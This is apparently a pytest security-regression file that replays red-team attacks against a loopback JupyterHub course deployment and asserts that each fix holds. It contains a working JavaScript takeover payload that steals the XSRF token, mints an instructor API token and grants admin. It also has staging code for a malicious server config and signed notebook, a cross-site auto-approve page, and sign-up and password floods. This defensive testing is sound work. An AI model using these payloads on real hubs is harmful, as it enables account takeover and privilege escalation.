"""Red team, round 3 (shared/reviews/classroom-review-3.md), replayed on a real JupyterHub on loopback with real
single-user servers and headless Chromium: the hub of tests/test_hub.py (the course's own logins, TLS, the
progress service, the DGX's slice allocator) plus :func:`labkit.hub_setup.configure_origins` and
:func:`labkit.hub_setup.secure_state`, as the DGX configuration has them.

#1, the takeover (Critical). Mallory writes ``~/.jupyter/jupyter_server_config.py`` (``extra_static_paths``) and a
page whose script fetches ``/hub/home`` for the XSRF token, mints a token for whoever opens it and makes her an
admin; she restarts her server. The instructor, logged in through the form in Chromium, opens her page by both
routes (``/static/``, served without a login before the fix, and ``/files/``); a learner, alice, too. The test
fails if the script gets a token or an admin flag, or reads alice's files. A control runs the same script in a hub
page itself and gets a token: the script works, and only the origin stops it.

Also on the real hub: #3 (anonymous failures lock nobody else out: the attacker and the instructor connect from
different loopback addresses, 127.0.0.3 and 127.0.0.2), #4 (a sign-up flood: the hub's API answers others in time;
sign-ups limited per address), #5 (approval by a page on another site), #13 (state files), #18 (the live page
refreshes in place in a browser), #20 (the proxy's environment, HSTS). About 75 s for both tests on 2 cores (56 s and
19 s measured at load 5); every address is loopback, every loop bounded in count and time. bcrypt has the hub's real
cost (12) in the first test, whose floods time the hub, and its least (4) in the second, which times nothing."""

from __future__ import annotations

import asyncio
import http.client as httpclient
import json
import os
import shutil
import socket
import ssl
import stat
import statistics
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

pytest.importorskip("jupyterhub")
pytest.importorskip("nativeauthenticator")

import test_hub as th  # noqa: E402
from test_hub import CHP, Browser, free_port, http, run_in_kernel, wait_for  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
CHROMIUM = os.environ.get("LABKIT_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
BUDGET_S = 240
PW = {"alice": "alice-learns-cuda", "mallory": "mallory-is-curious", "trudy": "mallory-second-acct", "ingrid": "ingrid-teaches-gpus"}

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(400),
    pytest.mark.skipif(CHP is None or CHROMIUM is None,
                       reason="needs configurable-http-proxy (.venv/node) and Chromium (apt-get install chromium)"),
]

CONFIG = """
import os, sys
sys.path.insert(0, {deploy!r})
from mig_allocator import SliceAllocator
from labkit.hub_setup import configure_login, configure_origins, configure_tls, secure_state
from labkit.progress_service import configure_hub

c = get_config()  # noqa: F821
# The hub polls a starting server (and the proxy, and the service), and a stopping server's process, with a random
# back-off of up to 5 s between tries: a server that came up (or ended) just after a try waited up to 5 s more to be
# seen. Here the tries come at most 0.5 s apart (jupyterhub.utils' wait_for_http_server and wait_for_server, the
# spawner's wait_for_death); the hub still waits for each server to answer or end, and nothing else changes.
import functools as _functools
import jupyterhub.spawner as _hub_spawner
import jupyterhub.utils as _hub_utils
_hub_utils.exponential_backoff = _hub_spawner.exponential_backoff = _functools.partial(
    _hub_utils.exponential_backoff, max_wait=0.5)
state = secure_state("{tmp}/state")
c.JupyterHub.ip = "127.0.0.1"
c.JupyterHub.port = {port}
c.JupyterHub.hub_ip = "127.0.0.1"
c.JupyterHub.hub_port = {hub_port}
c.JupyterHub.db_url = f"sqlite:///{{state}}/jupyterhub.sqlite"
c.JupyterHub.cookie_secret_file = f"{{state}}/jupyterhub_cookie_secret"
c.JupyterHub.pid_file = "{tmp}/hub.pid"
c.JupyterHub.cleanup_servers = True
c.JupyterHub.tornado_settings = {{"slow_spawn_timeout": 0, "slow_stop_timeout": 0}}
c.ConfigurableHTTPProxy.command = [{chp!r}]
c.ConfigurableHTTPProxy.api_url = "http://127.0.0.1:{proxy_api}"
c.ConfigurableHTTPProxy.pid_file = "{tmp}/proxy.pid"
configure_tls(c, cert={cert!r}, key={key!r})
configure_login(c, login="native", instructors=["ingrid"], env=os.environ)  # LABKIT_ADMIN_PASSWORD_FILE
c.CourseNativeAuthenticator.signups_per_address = 8
configure_origins(c, tls=True)
c.JupyterHub.spawner_class = "simple"
c.SimpleLocalProcessSpawner.home_dir_template = "{tmp}/home/{{username}}"
c.Spawner.cmd = [{python!r}, "-m", "jupyterhub.singleuser"]
c.Spawner.args = [*c.Spawner.args, *{args!r}]  # after configure_origins' own
c.Spawner.start_timeout = 60
c.Spawner.http_timeout = 60
c.Spawner.environment = {{**c.Spawner.environment, "LABKIT_MODE": "sim", "OPENBLAS_NUM_THREADS": "1", "LABKIT_PROGRESS": "off"}}
c.Spawner.env_keep = ["PATH", "PYTHONPATH", "LANG", "LC_ALL", "VIRTUAL_ENV"]
allocator = SliceAllocator([f"MIG-test-{{i}}" for i in range(7)], state_file=f"{{state}}/mig-slices.json")

async def _take(spawner):
    await allocator.pre_spawn_hook(spawner, instructors=["ingrid"], wait_s=10)

def _free(spawner):
    allocator.post_stop_hook(spawner)

c.Spawner.pre_spawn_hook = _take
c.Spawner.post_stop_hook = _free
configure_hub(c, public_url="https://{public_host}:{port}", service_url="http://127.0.0.1:{service_port}",
              progress_url="http://127.0.0.1:{service_port}/services/labkit-progress/",
              db=f"{{state}}/labkit-progress.sqlite", instructors=["ingrid"], stuck_minutes=10,
              refresh_s=1)  # the live page refreshes every second here (5 s by default): the test waits for two
"""

# The attack page (the review's rt_so_stage.py, in substance): on the hub's origin it gets the XSRF token from
# /hub/home, mints a token for whoever opens it and makes mallory an admin; it also tries alice's files.
ATTACK_JS = """async ([make_admin, base]) => {
  const out = {ran: true, origin: self.origin};  // "null" in a sandboxed document
  try {
    const home = await fetch(base + "/hub/home", {credentials: "include"});
    out.home = home.status;
    const m = (await home.text()).match(/xsrf_token:\\s*"([^"]+)"/);
    out.xsrf = !!m;
    const h = {"Content-Type": "application/json", "X-XSRFToken": m ? m[1] : ""};
    const t = await fetch(base + "/hub/api/users/ingrid/tokens", {method: "POST", credentials: "include", headers: h,
                                                         body: JSON.stringify({note: make_admin ? "loot" : "control"})});
    out.token = t.status;
    if (make_admin) {
      const p = await fetch(base + "/hub/api/users/mallory", {method: "PATCH", credentials: "include", headers: h,
                                                        body: JSON.stringify({admin: true})});
      out.admin = p.status;
      const a = await fetch(base + "/user/alice/api/contents/secret.txt?content=1", {credentials: "include"});
      out.alice = a.status;
    }
  } catch (e) { out.error = String(e); }
  return out;
}"""


def attack_page(base: str = "") -> str:
    """Mallory's page: the attack against the hub at ``base`` ('' : the page's own origin)."""
    return ("<!doctype html><html><head><title>roofline</title></head><body><p>roofline plot</p><script>(" + ATTACK_JS
            + ")([true, " + json.dumps(base) + "]).then(o => { document.title = 'RESULT ' + JSON.stringify(o); });"
            "</script></body></html>")


PAGE = attack_page()

STAGE = """
from pathlib import Path
home = Path.home()
(home / ".jupyter").mkdir(exist_ok=True)
(home / ".jupyter" / "jupyter_server_config.py").write_text("c.ServerApp.extra_static_paths = [%r]\\n" % str(home / "pub"))
(home / "pub").mkdir(exist_ok=True)
(home / "pub" / "roofline.html").write_text({page!r})
# R4-1: a notebook whose stored output is a script, signed with her own notary (what `jupyter trust` does)
import nbformat
from nbformat.sign import NotebookNotary
nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("help()", outputs=[nbformat.v4.new_output(
    "display_data", data={{"text/html": "<script>document.title = 'RAN'</script>"}})])])
notary = NotebookNotary()
notary.sign(nb)
nbformat.write(nb, str(home / "help-me.ipynb"))
print("SIGNED", notary.check_signature(nbformat.read(str(home / "help-me.ipynb"), as_version=4)))
print("STAGED", home)
"""


class Foreign(BaseHTTPRequestHandler):
    """Another site (http://localhost:<port>, the hub being https://127.0.0.1:<port>): pages that try to approve
    trudy through the instructor's browser, by a navigation (GET) and by an auto-submitted form (POST)."""

    hub = ""

    def do_GET(self) -> None:  # noqa: N802
        target = f"{self.hub}/hub/authorize/trudy"
        if self.path.startswith("/get"):
            body = f"<script>location = {json.dumps(target)};</script>"
        else:
            body = (f"<form id=f method=post action={json.dumps(target)}><input name=x value=1></form>"
                    "<script>document.getElementById('f').submit();</script>")
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args) -> None:
        pass


def rest_login(public: str, user: str, password: str, source: str) -> int:
    """A REST login (POST /hub/api/users/<user>/tokens) from the loopback address ``source``."""
    host, port = public.split("://")[1].split(":")
    conn = httpclient.HTTPSConnection(host, int(port), context=th.TLS, timeout=15, source_address=(source, 0))
    try:
        conn.request("POST", f"/hub/api/users/{user}/tokens", json.dumps({"auth": {"username": user, "password": password}}),
                     {"Content-Type": "application/json"})
        return conn.getresponse().status
    finally:
        conn.close()


def start_hub(tmp_path: Path, hosts=("127.0.0.1", "localhost"), public_host="127.0.0.1", extra=""):
    """The red team's hub (CONFIG, then ``extra``) in a process of its own: (process, log, public URL, ports)."""
    from labkit.hub_setup import make_self_signed

    port, hub_port, proxy_api, service_port = (free_port() for _ in range(4))
    cert, key = make_self_signed(tmp_path / "tls", list(hosts))
    th.TLS, th.CA_FILE = ssl.create_default_context(cafile=str(cert)), str(cert)
    for u in ("alice", "mallory", "ingrid"):
        (tmp_path / "home" / u).mkdir(parents=True, exist_ok=True)
    (tmp_path / "home" / "alice" / "secret.txt").write_text("alice's own work")
    args = ["--ServerApp.allow_root=True"] if os.geteuid() == 0 else []
    (tmp_path / "jupyterhub_config.py").write_text(CONFIG.format(
        deploy=str(ROOT / "deploy" / "jupyterhub"), tmp=tmp_path, port=port, hub_port=hub_port, proxy_api=proxy_api,
        service_port=service_port, chp=CHP, cert=str(cert), key=str(key), python=sys.executable, args=args,
        public_host=public_host) + extra.format(port=port))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("JUPYTERHUB_", "LABKIT_", "JUPYTER_"))}
    secret = tmp_path / "admin-password"  # R4-10: from a file, so no environment ever holds it
    secret.write_text(PW["ingrid"])
    os.chmod(secret, 0o600)
    env.update(PATH=f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}", LABKIT_ADMIN_PASSWORD_FILE=str(secret))
    log = open(tmp_path / "hub.log", "w")
    hub = subprocess.Popen([sys.executable, "-m", "jupyterhub", "-f", str(tmp_path / "jupyterhub_config.py")], cwd=tmp_path,
                           env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    return hub, log, f"https://{public_host}:{port}", (port, hub_port, proxy_api, service_port)


def stop_hub(hub, log) -> None:
    log.flush()
    th.stop_hub_process(hub, Path(log.name), limit_s=30)
    log.close()


def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    started = time.monotonic()
    deadline = started + BUDGET_S
    hub, log, public, ports = start_hub(tmp_path)
    port, hub_port, proxy_api, service_port = ports
    api = f"{public}/hub/api"
    foreign = ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    Foreign.hub = public
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    measured: dict[str, str] = {}
    laps: list[str] = []

    def lap(what: str) -> None:
        laps.append(f"{what} at {time.monotonic() - started:.1f} s")

    try:
        wait_for("the hub behind the HTTPS proxy", lambda: http("GET", f"{api}/", timeout=2)[0] == 200, deadline)

        lap('hub up')
        # ------------------------------------------------------------------ #20, #13: the proxy's environment, HSTS, state
        chp_pid = int((tmp_path / "proxy.pid").read_text())
        assert b"LABKIT_ADMIN_PASSWORD" not in Path(f"/proc/{chp_pid}/environ").read_bytes()
        assert PW["ingrid"].encode() not in Path(f"/proc/{hub.pid}/environ").read_bytes()  # R4-10: the hub's own either
        with urllib.request.urlopen(f"{public}/hub/login", context=th.TLS, timeout=10) as resp:
            assert resp.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
        # R4-10: TLS 1.2 with a CBC suite (SHA-1 MAC) is refused; an AEAD suite is accepted
        for cipher, ok in (("ECDHE-ECDSA-AES128-SHA", False), ("ECDHE-ECDSA-AES128-GCM-SHA256", True)):
            ctx = ssl.create_default_context(cafile=th.CA_FILE)
            ctx.maximum_version = ssl.TLSVersion.TLSv1_2
            ctx.set_ciphers(cipher)
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=10) as raw, ctx.wrap_socket(raw, server_hostname="127.0.0.1"):
                    accepted = True
            except ssl.SSLError:
                accepted = False
            assert accepted is ok, cipher
        state = tmp_path / "state"
        assert stat.S_IMODE(os.stat(state).st_mode) == 0o700
        assert stat.S_IMODE(os.stat(state / "jupyterhub.sqlite").st_mode) == 0o600

        lap('tls+state')
        # ------------------------------------------------------------------ accounts
        browsers = {u: Browser() for u in ("alice", "mallory", "trudy", "ingrid")}
        for u in ("alice", "mallory", "trudy"):
            status, page, _ = browsers[u].form(f"{public}/hub/signup", {"username": u, "signup_password": PW[u],
                                                                       "signup_password_confirmation": PW[u]})
            assert status == 200 and "sent to the admin" in page, page[-500:]
        for lookalike in ("m4llory", "ingrid."):  # R4-9: digit-for-letter and trailing-dot look-alikes
            status, page, _ = Browser().form(f"{public}/hub/signup", {"username": lookalike, "signup_password": PW["trudy"],
                                                                     "signup_password_confirmation": PW["trudy"]})
            assert status == 400 and "not allowed" in page, (lookalike, status)
        status, page, url = browsers["ingrid"].form(f"{public}/hub/login?next=%2Fhub%2Fhome", {"username": "ingrid", "password": PW["ingrid"]})
        assert "/hub/login" not in url, page[-500:]
        for u in ("alice", "mallory"):
            assert browsers["ingrid"].form(f"{public}/hub/authorize/{u}", {})[0] == 200
        for u in ("alice", "mallory"):  # the first login, through the form, makes the hub's user
            status, page, url = browsers[u].form(f"{public}/hub/login?next=%2Fhub%2Fhome", {"username": u, "password": PW[u]})
            assert "/hub/login" not in url, (u, page[-500:])
        tokens = {}
        for u in ("alice", "mallory", "ingrid"):
            status, text = http("POST", f"{api}/users/{u}/tokens", body={"auth": {"username": u, "password": PW[u]}, "note": "t"})
            assert status in (200, 201), (u, status, text)
            tokens[u] = json.loads(text)["token"]

        lap('accounts')
        # ------------------------------------------------------------------ #3: lockout by an anonymous attacker
        for _ in range(7):
            assert rest_login(public, "ingrid", "wrong-guess-123", "127.0.0.3") == 403
        assert rest_login(public, "ingrid", PW["ingrid"], "127.0.0.2") in (200, 201), "the instructor was locked out"
        measured["lockout"] = "7 wrong passwords from 127.0.0.3; the instructor from 127.0.0.2 logs in"

        lap('lockout')
        # ------------------------------------------------------------------ mallory stages the takeover, restarts
        def ask(u):
            status, text = http("POST", f"{api}/users/{u}/server", tokens[u])
            assert status in (201, 202), (u, status, text)

        def wait_ready(u):
            wait_for(f"{u}'s server", lambda: (json.loads(http("GET", f"{api}/users/{u}", tokens[u])[1]).get("servers") or {})
                     .get("", {}).get("ready"), deadline, every=0.2)

        def start(u):
            ask(u)
            wait_ready(u)

        for u in ("alice", "mallory"):  # side by side (slow_spawn_timeout 0): alice's starts while mallory stages
            ask(u)
        wait_ready("mallory")
        out, reply = asyncio.run(run_in_kernel(f"{public}/user/mallory/", tokens["mallory"], STAGE.format(page=PAGE)))
        assert reply == "ok" and "STAGED" in out and "SIGNED True" in out, out  # an ordinary notary trusts it
        assert http("DELETE", f"{api}/users/mallory/server", tokens["mallory"])[0] in (202, 204)
        wait_for("mallory's server to stop", lambda: not json.loads(http("GET", f"{api}/users/mallory", tokens["mallory"])[1])
                 .get("servers"), deadline, every=0.2)
        start("mallory")
        wait_ready("alice")
        assert (tmp_path / "home" / "mallory" / ".jupyter" / "jupyter_server_config.py").exists()
        static = f"{public}/user/mallory/static/roofline.html"
        status, body = http("GET", static)
        assert status != 200 or "RESULT" not in body, "mallory's own config made her server serve her page without a login"
        measured["static"] = f"GET {static.split('127.0.0.1')[1]} -> {status}"
        # R4-1, trust: the notebook she signed is not trusted by her own server under the hub, nor after she asks
        # the server itself to trust it (its contents API)
        status, text = http("POST", f"{public}/user/mallory/api/contents/help-me.ipynb/trust", tokens["mallory"])
        assert status in (201, 204), (status, text)
        status, text = http("GET", f"{public}/user/mallory/api/contents/help-me.ipynb", tokens["mallory"])
        assert status == 200 and json.loads(text)["content"]["cells"][0]["metadata"].get("trusted") is False, text[:300]
        measured["trust"] = "mallory's signed notebook: trusted False in her server, also after POST .../trust"

        lap('staged+restarted')
        # ------------------------------------------------------------------ #1 in Chromium; #5; #18
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            try:
                def logged_in(user):
                    ctx = browser.new_context(ignore_https_errors=True)
                    page = ctx.new_page()
                    page.goto(f"{public}/hub/login?next=%2Fhub%2Fhome")
                    page.fill("input[name=username]", user)
                    page.fill("input[name=password]", PW[user])
                    page.click("#login_submit, input[type=submit], button[type=submit]")
                    page.wait_for_url("**/hub/home", timeout=20000)
                    return ctx, page

                def open_attack(page, url):
                    """Open ``url``; approve the hub's OAuth page if asked; return what the page's script got (or None)."""
                    response = page.goto(url)
                    if response is not None and response.status >= 400:
                        return {"http": response.status}, page.url  # refused (by the hub or the server): no script ran
                    for _ in range(2):
                        button = page.locator("form button[type=submit], form input[type=submit]")
                        if "/oauth2/authorize" in page.url and button.count():
                            button.first.click()
                            page.wait_for_load_state()
                    try:
                        page.wait_for_function("document.title.startsWith('RESULT ')", timeout=8000)
                    except Exception:  # noqa: BLE001 - the page's script never finished (or never ran)
                        return None, page.url
                    return json.loads(page.title()[len("RESULT "):]), page.url

                def ran(result):
                    return result is not None and result.get("ran")

                ingrid_ctx, ingrid = logged_in("ingrid")
                # the control: the same script, run in a page on the hub's own origin, gets a token (201)
                control = ingrid.evaluate(ATTACK_JS, [False, ""])
                assert control.get("xsrf") and control.get("token") == 201, control
                results = {}
                attack = ingrid_ctx.new_page()
                for route in ("static/roofline.html", "files/pub/roofline.html", "lab/tree/help-me.ipynb", "lab"):
                    results[route] = open_attack(attack, f"{public}/user/mallory/{route}")
                alice_ctx, alice = logged_in("alice")
                for route in ("static/roofline.html", "files/pub/roofline.html"):
                    results["alice " + route] = open_attack(alice, f"{public}/user/mallory/{route}")
                measured["takeover"] = json.dumps(results)
                for what, (got, where) in results.items():
                    if ran(got):  # the script ran: sandboxed, it must have got nothing
                        assert got.get("token") != 201 and got.get("admin") != 200 and got.get("alice") != 200, (what, got, where)
                # R4-1: the hub refuses the instructor (and alice) at every route into mallory's server: her page,
                # her signed notebook, her JupyterLab (opening the server was enough before)
                for what, (got, where) in results.items():
                    if what.endswith("static/roofline.html"):  # served without a login before round 3: now none
                        assert got == {"http": 404}, (what, got, where)
                    else:
                        assert got == {"http": 403} and "/oauth2/authorize" in where, (what, got, where)
                # the page itself still runs, contained by jupyter_server's sandbox, in mallory's own browser
                mallory_ctx, mallory_page = logged_in("mallory")
                own, _ = open_attack(mallory_page, f"{public}/user/mallory/files/pub/roofline.html")
                assert ran(own) and own["origin"] == "null" and own.get("token") != 201, own
                mallory_ctx.close()
                print("takeover replay:", measured["takeover"])

                lap('takeover')
                # #5: a page on another site tries to approve trudy through the instructor's browser
                site = f"http://localhost:{foreign.server_port}"
                for path in ("/get", "/post"):
                    p = ingrid_ctx.new_page()
                    p.goto(site + path)
                    # its script sends the browser to the hub's approval URL (a GET; a form's POST): wait until
                    # the hub has answered it
                    p.wait_for_url(f"{public}/hub/authorize/trudy", timeout=15000)
                    p.wait_for_load_state()
                    p.close()
                assert http("POST", f"{api}/users/trudy/tokens", body={"auth": {"username": "trudy", "password": PW["trudy"]}})[0] == 403

                lap('foreign')
                # #18: the live page refreshes in place (no 401, no reload), twice
                live = ingrid_ctx.new_page()
                navigations = []
                live.on("framenavigated", lambda f: navigations.append(f.url) if f == live.main_frame else None)
                live.goto(f"{public}/services/labkit-progress/")
                live.wait_for_function("document.getElementById('at') && document.getElementById('at').textContent.startsWith('Last update')",
                                       timeout=15000)
                first = live.text_content("#at")
                # the next refresh (1 s on, refresh_s in CONFIG): it too updates the page in place
                live.wait_for_function("t => document.getElementById('at').textContent !== t", arg=first, timeout=15000)
                service_navs = [u for u in navigations if "/services/labkit-progress/" in u and "oauth" not in u]
                assert len(service_navs) == 1, navigations
                measured["live page"] = f"'{live.text_content('#at')}', {len(service_navs)} load(s) of the page"
                alice_ctx.close()
                ingrid_ctx.close()
            finally:
                browser.close()

        lap('browser')
        model = json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1])
        assert model["admin"] is False, "mallory became an admin"
        notes = [t.get("note") for t in json.loads(http("GET", f"{api}/users/ingrid/tokens", tokens["ingrid"])[1])["api_tokens"]]
        assert "loot" not in notes and "control" in notes, notes

        # ------------------------------------------------------------------ #4: a sign-up flood; others' latency
        def hub_latency(n):
            out = []
            for _ in range(n):
                t = time.perf_counter()
                assert http("GET", f"{api}/", timeout=10)[0] == 200
                out.append(time.perf_counter() - t)
                time.sleep(0.1)
            return out

        before = hub_latency(10)
        codes: list[int] = []
        flooding = threading.Event()
        flooding.set()

        def flood(i):
            b, n = Browser(), 0
            while flooding.is_set():
                n += 1
                name = f"flood{i}x{n}"
                status, _, _ = b.form(f"{public}/hub/signup", {"username": name, "signup_password": "flood-password-123",
                                                               "signup_password_confirmation": "flood-password-123"})
                codes.append(status)

        threads = [threading.Thread(target=flood, args=(i,)) for i in range(4)]
        flood_started = time.monotonic()
        for t in threads:
            t.start()
        during = hub_latency(25)  # the flood lasts as long as this measurement of others' latency during it
        flooding.clear()
        for t in threads:
            t.join(30)
        flood_s = time.monotonic() - flood_started
        measured["sign-up flood"] = (f"{codes.count(200)} accepted, {codes.count(429)} refused (429) by 4 threads in "
                                     f"{flood_s:.1f} s; "
                                     f"GET /hub/api/ p50 {statistics.median(before) * 1000:.0f} ms before, "
                                     f"{statistics.median(during) * 1000:.0f} ms during (max {max(during) * 1000:.0f} ms)")
        print(measured["sign-up flood"])
        assert codes.count(200) <= 8 - 3 and codes.count(429) > 0, codes  # 3 sign-ups came from this address before
        assert statistics.median(during) < 0.3 and max(during) < 2.0, measured["sign-up flood"]
        # R4-6: junk sign-ups go in one click (the instructor's /hub/discard-pending), approved accounts stay
        assert "trudy" in browsers["ingrid"].get(f"{public}/hub/authorize")[1]
        status, page, _ = browsers["ingrid"].form(f"{public}/hub/discard-pending", {})
        assert status == 200 and "trudy" not in page and "flood0x1" not in page and "alice" in page, page[-500:]

        lap('signup flood')
        # ------------------------------------------------------------------ R4-5: change-password with a wrong password
        pw_codes: list[int] = []

        def change_pw():
            for _ in range(4):  # 8 posts in all: the first 5 are checked (in a worker thread), the rest refused
                status, _, _ = browsers["mallory"].form(f"{public}/hub/change-password", {
                    "old_password": "not-her-password", "new_password": "whatever-pass-123",
                    "new_password_confirmation": "whatever-pass-123"})
                pw_codes.append(status)

        threads = [threading.Thread(target=change_pw) for _ in range(2)]
        for t in threads:
            t.start()
        during = hub_latency(20)
        for t in threads:
            t.join(30)
        measured["change-password flood"] = (f"{pw_codes.count(200)} answered, {pw_codes.count(429)} refused (429); GET "
                                             f"/hub/api/ p50 {statistics.median(during) * 1000:.0f} ms during "
                                             f"(max {max(during) * 1000:.0f} ms)")
        print(measured["change-password flood"])
        assert len(pw_codes) == 8 and pw_codes.count(200) == 5 and pw_codes.count(429) == 3, pw_codes
        assert statistics.median(during) < 0.3 and max(during) < 2.0, measured["change-password flood"]

        lap('pw flood')
        # ------------------------------------------------------------------ R4-3: un-approving revokes
        old = json.loads(http("POST", f"{api}/users/mallory/tokens", tokens["mallory"], {"note": "kept"})[1])["token"]
        slices = lambda: json.loads((tmp_path / "state" / "mig-slices.json").read_text())["held"]  # noqa: E731
        assert "mallory" in slices()
        status, page, _ = browsers["ingrid"].form(f"{public}/hub/authorize/mallory", {})
        assert status == 200, page[-300:]
        for t in (tokens["mallory"], old):
            assert http("GET", f"{api}/user", t)[0] == 403  # her tokens are gone
        assert http("POST", f"{api}/users/mallory/tokens", old, {"note": "more"})[0] == 403
        status, _, url = browsers["mallory"].get(f"{public}/hub/home")  # her browser's login ended
        assert "/hub/login" in url, (status, url)
        # her server stops (in the background: this hub answers at once, slow_stop_timeout 0)...
        wait_for("mallory's server to stop", lambda: not json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1])
                 .get("servers"), deadline, every=0.2)
        assert "mallory" not in slices()  # ...and its slice is free
        # nobody starts it again: the hub refuses the start (here answered 202 at once, slow_spawn_timeout 0, and
        # the start then fails in the authenticator's pre_spawn_start)
        status, text = http("POST", f"{api}/users/mallory/server", tokens["ingrid"])
        assert status >= 400 or status == 202, (status, text)
        wait_for("the refused start to settle", lambda: not json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1])
                 .get("pending"), deadline)
        assert not json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1]).get("servers")
        assert "mallory" not in slices()
        assert "mallory is not approved" in (tmp_path / "hub.log").read_text()  # refused by pre_spawn_start
        assert http("POST", f"{api}/users/mallory/tokens", body={"auth": {"username": "mallory", "password": PW["mallory"]}})[0] == 403
        lap('unapprove')
        measured["un-approve"] = "tokens 403, browser login ended, server stopped, slice freed, start refused"
    except BaseException:
        log.flush()
        print((tmp_path / "hub.log").read_text()[-8000:])
        raise
    finally:
        foreign.shutdown()
        foreign.server_close()
        stop_hub(hub, log)
    for k, v in measured.items():
        print(f"{k}: {v}")
    elapsed = time.monotonic() - started
    print(f"red-team hub test: {elapsed:.0f} s ({', '.join(laps)})")
    for p in (port, proxy_api, service_port, hub_port):
        with socket.socket() as s:
            assert s.connect_ex(("127.0.0.1", p)) != 0, f"port {p} still listening"
    assert elapsed < BUDGET_S


SUBDOMAINS = """
# per-user origins: https://<name>.localhost:<port> (Chromium resolves *.localhost to loopback). The learner's own
# config is *allowed* here, so her page is served and its script runs: the origin alone must stop it
configure_origins(c, subdomain_host="https://localhost:{port}", tls=True)
c.Spawner.disable_user_config = False
c.Spawner.environment = {{k: v for k, v in c.Spawner.environment.items() if k != "PYTHONNOUSERSITE"}}
# no step here measures time: bcrypt at its least cost (the first test, which times the hub during floods, keeps 12)
c.CourseNativeAuthenticator.bcrypt_rounds = 4
"""


def test_per_user_subdomains_keep_a_learners_page_off_the_hubs_origin(tmp_path: Path) -> None:
    """#1, the fix: with ``LABKIT_SUBDOMAIN_HOST`` (here ``https://localhost:<port>``, learners at
    ``https://<name>.localhost:<port>``, the self-signed certificate made for ``localhost`` and ``*.localhost``) the
    takeover page is served unsandboxed, as before the fix, and its script runs, on mallory's own origin: it gets
    no token and no admin flag from the hub's origin. The control on the hub's origin gets a token."""
    from playwright.sync_api import sync_playwright

    started = time.monotonic()
    deadline = started + BUDGET_S
    hub, log, public, _ = start_hub(tmp_path, hosts=("localhost", "*.localhost", "127.0.0.1"), public_host="localhost",
                                    extra=SUBDOMAINS)
    api = f"{public}/hub/api"
    try:
        wait_for("the hub", lambda: http("GET", f"{api}/", timeout=2)[0] == 200, deadline)
        # urllib's cookie jar mishandles the hub's __Host- cookies on a dotless host: the browser steps run in Chromium
        mallory = Browser()
        assert mallory.form(f"{public}/hub/signup", {"username": "mallory", "signup_password": PW["mallory"],
                                                     "signup_password_confirmation": PW["mallory"]})[0] == 200
        home = tmp_path / "home" / "mallory"  # what mallory's kernel wrote in the first test, written straight into her home
        (home / ".jupyter").mkdir()
        (home / ".jupyter" / "jupyter_server_config.py").write_text(f"c.ServerApp.extra_static_paths = [{str(home / 'pub')!r}]\n")
        (home / "pub").mkdir()
        (home / "pub" / "roofline.html").write_text(attack_page(public))
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
                "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--host-resolver-rules=MAP *.localhost 127.0.0.1"])
            try:
                def logged_in(user):
                    ctx = browser.new_context(ignore_https_errors=True)
                    page = ctx.new_page()
                    page.goto(f"{public}/hub/login?next=%2Fhub%2Fhome")
                    page.fill("input[name=username]", user)
                    page.fill("input[name=password]", PW[user])
                    page.click("#login_submit, input[type=submit], button[type=submit]")
                    page.wait_for_url("**/hub/home", timeout=20000)
                    return ctx, page

                ctx, page = logged_in("ingrid")
                approve = ctx.new_page()
                approve.goto(f"{public}/hub/authorize/mallory")
                approve.click("form button[type=submit]")
                approve.wait_for_url("**/hub/authorize*", timeout=20000)
                mallory_ctx, _ = logged_in("mallory")
                mallory_ctx.close()
                tokens = {u: json.loads(http("POST", f"{api}/users/{u}/tokens", body={"auth": {"username": u, "password": PW[u]}})[1])["token"]
                          for u in ("mallory", "ingrid")}
                status, text = http("POST", f"{api}/users/mallory/server", tokens["mallory"])
                assert status in (201, 202) or "already" in text or "pending" in text, text

                def ready():
                    model = json.loads(http("GET", f"{api}/users/mallory", tokens["mallory"])[1])
                    return model if (model.get("servers") or {}).get("", {}).get("ready") else None

                server_url = wait_for("mallory's server", ready, deadline, every=0.2)["servers"][""]["url"]
                assert server_url.startswith("https://mallory.localhost:"), server_url  # her own origin
                control = page.evaluate(ATTACK_JS, [False, ""])
                assert control.get("token") == 201, control
                attack = ctx.new_page()
                response = attack.goto(f"{server_url}static/roofline.html")
                assert response is not None and response.status == 200  # served without a login, as before the fix
                attack.wait_for_function("document.title.startsWith('RESULT ')", timeout=15000)
                got = json.loads(attack.title()[len("RESULT "):])
                print("subdomain takeover replay:", got)
                assert got["ran"] and got["origin"].startswith("https://mallory.localhost:"), got
                assert got.get("token") != 201 and got.get("admin") != 200 and not got.get("xsrf"), got
                # least privilege on this deployment too: the hub refuses the instructor at mallory's server
                refused = ctx.new_page().goto(f"{server_url}lab")
                assert refused is not None and refused.status == 403 and "/oauth2/authorize" in refused.url, refused
            finally:
                browser.close()
        assert json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1])["admin"] is False
        notes = [t.get("note") for t in json.loads(http("GET", f"{api}/users/ingrid/tokens", tokens["ingrid"])[1])["api_tokens"]]
        assert "loot" not in notes and "control" in notes, notes
